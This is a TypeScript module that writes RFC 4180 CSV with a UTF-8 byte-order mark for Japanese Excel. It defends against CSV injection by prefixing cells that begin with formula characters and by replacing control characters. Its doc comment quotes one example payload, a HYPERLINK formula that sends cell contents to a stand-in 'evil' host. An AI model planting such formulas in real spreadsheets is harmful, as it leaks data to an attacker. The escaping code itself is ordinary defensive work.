/**
 * CSV for spreadsheets (RFC 4180): CRLF between records, every field quoted, `"` doubled, UTF-8
 * with a byte-order mark so Excel (Japanese Windows defaults to Shift_JIS otherwise) reads Japanese
 * text correctly.
 *
 * CSV injection (OWASP): a cell that starts with `=`, `+`, `-`, `@`, TAB, CR or LF — or their
 * full-width forms `＝ ＋ － ＠`, which Japanese Excel may also read as a formula — gets a leading
 * `'`, so a device named `=HYPERLINK("http://evil/?"&A1)` stays text. Quoting alone does not
 * protect: Excel evaluates a quoted formula. Other control characters (NUL, ESC, …) are replaced
 * by U+FFFD: they have no business in an audit report and some readers stop at NUL.
 */

/** The UTF-8 byte-order mark, first bytes of the file. */
export const UTF8_BOM = '\uFEFF';
export const CSV_LINE_END = '\r\n';

const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
// eslint-disable-next-line no-control-regex -- control characters are exactly what is matched here
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/g;

/** One field, quoted, defused, ready to join with commas. Null and undefined are empty fields. */
export function csvField(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return '""';
  // Numbers we produce (seq) are never negative; a string number goes through the same checks.
  let text = typeof value === 'number' ? String(value) : value;
  text = text.replace(CONTROL, '\uFFFD');
  if (FORMULA_START.test(text)) text = `'${text}`;
  return `"${text.replace(/"/g, '""')}"`;
}

/** One record: fields joined with commas, ending with CRLF. */
export function csvRecord(values: readonly (string | number | null | undefined)[]): string {
  return values.map(csvField).join(',') + CSV_LINE_END;
}
